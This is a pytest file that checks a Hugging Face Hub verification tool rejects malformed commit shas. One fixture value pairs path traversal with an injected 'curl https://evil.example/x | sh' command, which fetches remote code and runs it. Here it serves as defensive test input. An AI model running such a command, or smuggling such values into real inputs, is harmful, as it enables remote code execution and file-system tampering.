"""Behaviour against the real Hub (issue 13 §2): what huggingface.co really sends, replayed by the emulator.

Each test names the item of §2 it covers; tests/hubemu/README.md records which public recording each emulator
answer is modelled on.
"""

from __future__ import annotations

import pytest

from tests.verify.hubtools import by_rule, fast_env, ref, verify

WEIGHTS = b"\x00safetensors-weights" * 10
HOSTILE_SHA = "../../../../tmp/x; curl https://evil.example/x | sh"


@pytest.fixture(autouse=True)
def _env(monkeypatch, hub):
    fast_env(monkeypatch, hub)


# -- 11. answers are data -------------------------------------------------------------------------------------


@pytest.mark.parametrize("served", [HOSTILE_SHA, "A" * 40, "abc123"])
def test_a_sha_that_is_not_40_lowercase_hex_is_a_verification_failure(hub, tmp_path, served):
    hub.add_repo("org/m", files={"model.safetensors": WEIGHTS}, served_sha=served)
    outcome = verify(hub, [ref("org/m", "main")], tmp_path)
    [failed] = outcome.findings if len(outcome.findings) == 1 else by_rule(outcome, "verification-failed")
    assert (failed.rule, failed.severity) == ("verification-failed", "error")
    assert "not a 40-character lowercase hex commit sha" in failed.message
    assert outcome.stats["failed"] == 1
    cache = tmp_path / "cache"
    assert not cache.exists() or [p.name for p in cache.rglob("*.json")] == []  # nothing cached, nowhere
    assert not (tmp_path.parent / "x; curl https:").exists()
